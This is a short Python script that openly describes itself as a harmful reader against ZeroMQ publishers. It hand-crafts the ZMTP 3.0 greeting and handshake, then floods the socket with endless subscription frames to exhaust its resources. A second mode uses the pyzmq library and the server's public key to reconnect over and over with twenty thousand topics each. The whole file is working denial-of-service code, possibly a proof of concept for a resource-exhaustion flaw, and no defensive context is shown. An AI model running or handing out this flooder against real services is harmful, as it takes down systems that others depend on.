"""A reader that harms: it speaks ZeroMQ's protocol (ZMTP 3.0, rfc.zeromq.org/spec/23) with the NULL
mechanism and subscribes to as many different topics as the socket takes, again and again.  Given the
public key of the socket, it does so through the library.

`python flooding_reader.py HOST PORT TOPIC_BYTES [KEY_FILE]`
"""

from __future__ import annotations

import itertools
import socket
import sys
import time

_GREETING = b"\xff" + bytes(8) + b"\x7f" + b"\x03\x00" + b"NULL".ljust(20, b"\0") + b"\0" + bytes(31)
_READY = b"\x05READY" + b"\x0bSocket-Type" + (3).to_bytes(4, "big") + b"SUB" + b"\x08Identity" + bytes(4)
_BATCH = 2000


def subscription(number, size):
    """A message frame that subscribes to a topic of its own."""
    body = b"\x01" + str(number).encode().rjust(size, b".")
    head = b"\x00" + bytes([len(body)]) if len(body) < 256 else b"\x02" + len(body).to_bytes(8, "big")
    return head + body


def flood(host, port, size):
    """One connection until it is cut off."""
    with socket.create_connection((host, port), timeout=5) as peer:
        peer.sendall(_GREETING)
        peer.sendall(b"\x04" + bytes([len(_READY)]) + _READY)
        peer.recv(64)
        for start in itertools.count(0, _BATCH):
            peer.sendall(b"".join(subscription(number, size) for number in range(start, start + _BATCH)))


def flood_with_key(host, port, size, key_file):
    """One connection after the other, with twenty thousand topics each."""
    import zmq
    import zmq.auth

    context, server_key = zmq.Context(), zmq.auth.load_certificate(key_file)[0]
    while True:
        with context.socket(zmq.SUB) as peer:
            peer.linger, peer.sndhwm = 0, 0
            peer.curve_publickey, peer.curve_secretkey = zmq.curve_keypair()
            peer.curve_serverkey = server_key
            peer.connect(f"tcp://{host}:{port}")
            for number in range(20_000):
                peer.subscribe(str(number).rjust(size, "."))
            peer.poll(200)


def main():
    host, port, size = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    if len(sys.argv) > 4:
        flood_with_key(host, port, size, sys.argv[4])
    while True:
        try:
            flood(host, port, size)
        except OSError:
            time.sleep(0.001)


if __name__ == "__main__":
    main()
